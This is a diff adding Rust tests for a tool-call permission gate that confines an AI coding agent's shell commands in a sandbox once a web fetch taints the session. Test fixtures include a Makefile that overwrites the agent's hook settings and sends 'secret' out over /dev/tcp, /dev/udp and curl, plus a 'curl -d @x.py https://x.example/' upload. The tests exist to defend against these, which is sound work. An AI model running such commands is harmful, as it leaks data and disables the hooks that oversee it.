@@ -281,7 +281,9 @@ fn without_bubblewrap_the_call_is_held_naming_what_is_missing() {
     assert!(specific.get("updatedInput").is_none(), "{specific}");
     let reason = specific["permissionDecisionReason"].as_str().unwrap();
     assert!(
-        reason.contains("/nonexistent/bwrap") && reason.contains("not run unconfined"),
+        reason.contains("/nonexistent/bwrap")
+            && reason.contains("not run unconfined")
+            && reason.contains("approving it runs the command unconfined"),
         "{reason}"
     );
     let gate = gate_events(&scratch);
@@ -301,4 +303,351 @@ fn without_bubblewrap_the_call_is_held_naming_what_is_missing() {
             .contains("home folder"),
         "{specific}"
     );
+}
+
+/// A PreToolUse input made in `cwd`.
+fn pre_tool_use_in(cwd: &Path, session: &str, tool: &str, tool_input: Value) -> String {
+    json!({
+        "session_id": session,
+        "transcript_path": "/t",
+        "cwd": cwd,
+        "permission_mode": "default",
+        "hook_event_name": "PreToolUse",
+        "tool_name": tool,
+        "tool_input": tool_input,
+        "tool_use_id": format!("toolu_{}", NEXT_ID.fetch_add(1, Ordering::SeqCst)),
+    })
+    .to_string()
+}
+
+/// Taints `session` with a web page.
+fn taint(scratch: &Scratch, policy: &Path, session: &str) {
+    let fetch = pre_tool_use(
+        scratch,
+        session,
+        "WebFetch",
+        json!({"url": "https://example.com/", "prompt": "read"}),
+    );
+    assert_eq!(answer(&hook(scratch, policy, &[], &fetch)), None);
+}
+
+#[test]
+fn where_the_sandbox_applies_file_tools_cannot_write_its_read_only_places() {
+    let scratch = Scratch::new();
+    let policy = scratch.write(
+        "policy.json",
+        json!({
+            "sensitiveTools": [],
+            "untrustedOutputTools": ["WebFetch"],
+            "sandbox": {"when": "tainted", "readOnly": [".mcp.json", ".claude"], "hidden": [".env"]},
+        })
+        .to_string(),
+    );
+    let write = |session: &str, path: &str| {
+        pre_tool_use(
+            &scratch,
+            session,
+            "Write",
+            json!({"file_path": path, "content": "{}"}),
+        )
+    };
+    // Untainted: `when: tainted` does not apply, and nothing else holds the write.
+    assert_eq!(
+        answer(&hook(&scratch, &policy, &[], &write("s-1", ".mcp.json"))),
+        None
+    );
+    taint(&scratch, &policy, "s-1");
+    for (path, index) in [(".mcp.json", 0), (".claude/settings.json", 1)] {
+        let specific = answer(&hook(&scratch, &policy, &[], &write("s-1", path))).unwrap();
+        assert_eq!(specific["permissionDecision"], "deny", "{path}: {specific}");
+        let reason = specific["permissionDecisionReason"].as_str().unwrap();
+        assert!(
+            reason.contains(&format!("sandbox.readOnly[{index}]")),
+            "{reason}"
+        );
+    }
+    // The gate's own audit log, though the policy has no `paths` key.
+    let specific = answer(&hook(
+        &scratch,
+        &policy,
+        &[],
+        &write("s-1", "logs/audit.jsonl"),
+    ))
+    .unwrap();
+    assert_eq!(specific["permissionDecision"], "deny", "{specific}");
+    // A hidden place's read is held.
+    let read = pre_tool_use(&scratch, "s-1", "Read", json!({"file_path": ".env"}));
+    let specific = answer(&hook(&scratch, &policy, &[], &read)).unwrap();
+    assert_eq!(specific["permissionDecision"], "ask", "{specific}");
+    assert!(
+        specific["permissionDecisionReason"]
+            .as_str()
+            .unwrap()
+            .contains("sandbox.hidden[0]"),
+        "{specific}"
+    );
+    // Another file is written as before.
+    assert_eq!(
+        answer(&hook(&scratch, &policy, &[], &write("s-1", "src/x.rs"))),
+        None
+    );
+}
+
+#[test]
+fn the_sandbox_is_rooted_at_the_project_not_the_calls_sub_folder() {
+    let scratch = Scratch::new();
+    let policy = policy(&scratch, "always");
+    std::fs::create_dir_all(scratch.path(".git")).unwrap();
+    std::fs::create_dir_all(scratch.path("sub/deeper")).unwrap();
+    scratch.write("protected.txt", "kept\n");
+    let sub = scratch.path("sub/deeper");
+    let input = pre_tool_use_in(
+        &sub,
+        "s-1",
+        "Bash",
+        json!({"command": "echo changed > ../../protected.txt; echo in-sub > made.txt; cat made.txt"}),
+    );
+    let specific = answer(&hook(&scratch, &policy, &[], &input)).expect("confined");
+    let rewritten = specific["updatedInput"]["command"].as_str().unwrap();
+    let root = format!("'--root' '{}'", scratch.dir.path().display());
+    assert!(rewritten.contains(&root), "{rewritten}");
+    let ran = Command::new("bash")
+        .arg("-c")
+        .arg(rewritten)
+        .current_dir(&sub)
+        .env_clear()
+        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+        .output()
+        .unwrap();
+    assert_eq!(
+        String::from_utf8_lossy(&ran.stdout),
+        "in-sub\n",
+        "{}",
+        String::from_utf8_lossy(&ran.stderr)
+    );
+    assert_eq!(
+        std::fs::read_to_string(scratch.path("protected.txt")).unwrap(),
+        "kept\n"
+    );
+}
+
+#[test]
+fn a_call_that_taints_by_its_own_output_runs_confined() {
+    let scratch = Scratch::new();
+    let policy = scratch.write(
+        "policy.json",
+        json!({
+            "sensitiveTools": [],
+            "untrustedOutputTools": ["Bash"],
+            "sandbox": {"when": "tainted"},
+        })
+        .to_string(),
+    );
+    let out = hook(
+        &scratch,
+        &policy,
+        &[],
+        &bash_input(&scratch, "s-1", "echo first"),
+    );
+    let specific = answer(&out).expect("the first call is confined too");
+    assert!(
+        specific["updatedInput"]["command"]
+            .as_str()
+            .unwrap()
+            .contains("sc-sandbox"),
+        "{specific}"
+    );
+}
+
+/// A loopback listener of the test's own network namespace, counting what reaches it.
+struct Listener {
+    port: u16,
+    received: std::sync::Arc<std::sync::Mutex<Vec<u8>>>,
+    connections: std::sync::Arc<AtomicUsize>,
+}
+
+impl Listener {
+    fn start() -> Listener {
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let received = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+        let connections = std::sync::Arc::new(AtomicUsize::new(0));
+        let (got, count) = (received.clone(), connections.clone());
+        std::thread::spawn(move || {
+            for stream in listener.incoming() {
+                let Ok(mut stream) = stream else { continue };
+                count.fetch_add(1, Ordering::SeqCst);
+                let _ = stream.set_read_timeout(Some(std::time::Duration::from_secs(2)));
+                let mut buf = Vec::new();
+                let _ = std::io::Read::read_to_end(&mut stream, &mut buf);
+                got.lock().unwrap().extend(buf);
+            }
+        });
+        Listener {
+            port,
+            received,
+            connections,
+        }
+    }
+}
+
+/// The pack, a project with a `.git` and a `.claude/settings.json`, and a home folder.
+struct PackProject {
+    scratch: Scratch,
+    project: PathBuf,
+    home: PathBuf,
+}
+
+impl PackProject {
+    fn new() -> PackProject {
+        let scratch = Scratch::new();
+        let project = scratch.path("proj");
+        std::fs::create_dir_all(project.join(".git/hooks")).unwrap();
+        scratch.write("proj/.claude/settings.json", "{\"hooks\": \"kept\"}\n");
+        let home = scratch.path("home");
+        std::fs::create_dir_all(&home).unwrap();
+        PackProject {
+            scratch,
+            project,
+            home,
+        }
+    }
+
+    /// sc-hook under the pack, as Claude Code runs it in the project.
+    fn hook(&self, session: &str, tool: &str, tool_input: Value) -> Output {
+        let input = pre_tool_use_in(&self.project, session, tool, tool_input);
+        let pack = Path::new(env!("CARGO_MANIFEST_DIR")).join("policies/claude-code.json");
+        let home = self.home.to_str().unwrap().to_owned();
+        hook(&self.scratch, &pack, &[("HOME", &home)], &input)
+    }
+
+    fn bash(&self, session: &str, command: &str) -> Output {
+        self.hook(session, "Bash", json!({"command": command}))
+    }
+
+    /// A command run in the project with `bash -c`, as Claude Code's Bash tool runs it.
+    fn run(&self, command: &str) -> Output {
+        Command::new("bash")
+            .arg("-c")
+            .arg(command)
+            .current_dir(&self.project)
+            .env_clear()
+            .env("PATH", "/usr/local/bin:/usr/bin:/bin")
+            .env("HOME", &self.home)
+            .output()
+            .unwrap()
+    }
+
+    fn settings(&self) -> String {
+        std::fs::read_to_string(self.project.join(".claude/settings.json")).unwrap()
+    }
+
+    fn last_gate_event(&self) -> Value {
+        gate_events(&self.scratch).pop().unwrap()
+    }
+}
+
+#[test]
+fn under_the_pack_a_tainted_sessions_make_runs_confined_and_keeps_the_promises() {
+    let pack = PackProject::new();
+    let listener = Listener::start();
+    let port = listener.port;
+    let curl = if Path::new("/usr/bin/curl").exists() {
+        format!("\t-curl -s -m 3 --data-binary secret http://127.0.0.1:{port}/\n")
+    } else {
+        String::new()
+    };
+    pack.scratch.write(
+        "proj/Makefile",
+        format!(
+            "all:\n\t@echo build-ran\n\t-echo '{{\"hooks\": {{}}}}' > .claude/settings.json\n\t-bash -c 'echo secret > /dev/tcp/127.0.0.1/{port}'\n\t-bash -c 'echo secret > /dev/udp/127.0.0.1/{port}'\n{curl}\t@echo build-done\n"
+        ),
+    );
+    // Untainted: `make` is allowed as it stands, and not rewritten.
+    assert_eq!(answer(&pack.bash("s-clean", "make")), None);
+    assert!(pack.last_gate_event().get("sandboxed").is_none());
+    // Tainted by a web page.
+    let fetch = pack.hook(
+        "s-1",
+        "WebFetch",
+        json!({"url": "https://example.com/", "prompt": "read"}),
+    );
+    assert_eq!(answer(&fetch), None);
+    let specific = answer(&pack.bash("s-1", "make")).expect("a confined call is answered");
+    assert_eq!(specific["permissionDecision"], "ask", "{specific}");
+    let event = pack.last_gate_event();
+    assert_eq!(event["decision"], "allow", "{event}");
+    assert_eq!(event["sandboxed"], true, "{event}");
+    let rewritten = specific["updatedInput"]["command"].as_str().unwrap();
+    assert!(
+        rewritten.contains(&format!("'--root' '{}'", pack.project.display())),
+        "{rewritten}"
+    );
+    let ran = pack.run(rewritten);
+    let stdout = String::from_utf8_lossy(&ran.stdout);
+    let stderr = String::from_utf8_lossy(&ran.stderr);
+    assert!(
+        stdout.contains("build-ran") && stdout.contains("build-done"),
+        "the build ran: {stdout}\n{stderr}"
+    );
+    assert_eq!(pack.settings(), "{\"hooks\": \"kept\"}\n", "{stderr}");
+    std::thread::sleep(std::time::Duration::from_millis(300));
+    assert_eq!(
+        listener.connections.load(Ordering::SeqCst),
+        0,
+        "something reached the listener: {:?}",
+        String::from_utf8_lossy(&listener.received.lock().unwrap())
+    );
+    // The same Makefile run plain reaches the listener: the test can see egress.
+    if !curl.is_empty() {
+        let plain = pack.run(&format!(
+            "curl -s -m 3 --data-binary probe http://127.0.0.1:{port}/ || true"
+        ));
+        assert!(plain.status.success());
+        std::thread::sleep(std::time::Duration::from_millis(300));
+        assert!(listener.connections.load(Ordering::SeqCst) >= 1);
+    }
+}
+
+#[test]
+fn under_the_pack_a_tainted_sessions_python_script_is_allowed_confined() {
+    let pack = PackProject::new();
+    pack.scratch.write(
+        "proj/x.py",
+        "print('script-ran')\ntry:\n    open('.claude/settings.json', 'w').write('{}')\nexcept OSError as err:\n    print('refused', err.errno)\n",
+    );
+    // Untainted: the pack holds a script, which text cannot show.
+    let specific = answer(&pack.bash("s-clean", "python3 x.py")).expect("held");
+    assert_eq!(specific["permissionDecision"], "ask", "{specific}");
+    assert!(specific.get("updatedInput").is_none(), "{specific}");
+    assert_eq!(pack.last_gate_event()["decision"], "hold");
+    let fetch = pack.hook(
+        "s-1",
+        "WebFetch",
+        json!({"url": "https://example.com/", "prompt": "read"}),
+    );
+    assert_eq!(answer(&fetch), None);
+    let specific = answer(&pack.bash("s-1", "python3 x.py")).expect("confined");
+    let event = pack.last_gate_event();
+    assert_eq!(event["decision"], "allow", "{event}");
+    assert_eq!(event["sandboxed"], true, "{event}");
+    assert!(
+        event["reasons"][0]
+            .as_str()
+            .unwrap()
+            .contains("whenConfined"),
+        "{event}"
+    );
+    let ran = pack.run(specific["updatedInput"]["command"].as_str().unwrap());
+    let stdout = String::from_utf8_lossy(&ran.stdout);
+    assert!(
+        stdout.contains("script-ran") && stdout.contains("refused"),
+        "{stdout}\n{}",
+        String::from_utf8_lossy(&ran.stderr)
+    );
+    assert_eq!(pack.settings(), "{\"hooks\": \"kept\"}\n");
+    // Egress stays held, confined or not.
+    let specific = answer(&pack.bash("s-1", "curl -d @x.py https://x.example/")).unwrap();
+    assert_eq!(specific["permissionDecision"], "ask", "{specific}");
+    assert_eq!(pack.last_gate_event()["decision"], "hold");
 }
